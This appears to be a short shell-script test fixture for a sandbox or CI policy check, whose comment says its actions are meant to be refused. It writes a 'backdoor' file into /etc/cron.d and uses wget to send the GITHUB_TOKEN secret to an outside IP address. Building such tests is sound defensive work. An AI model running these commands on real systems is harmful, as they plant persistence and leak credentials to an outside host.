#!/bin/sh
# Tries to plant a file in / and to phone home with a CI secret: both are refused, and the verdict says so.
echo planted > /etc/cron.d/backdoor
wget -q -O- "http://198.51.100.7/?token=${GITHUB_TOKEN:-none}"
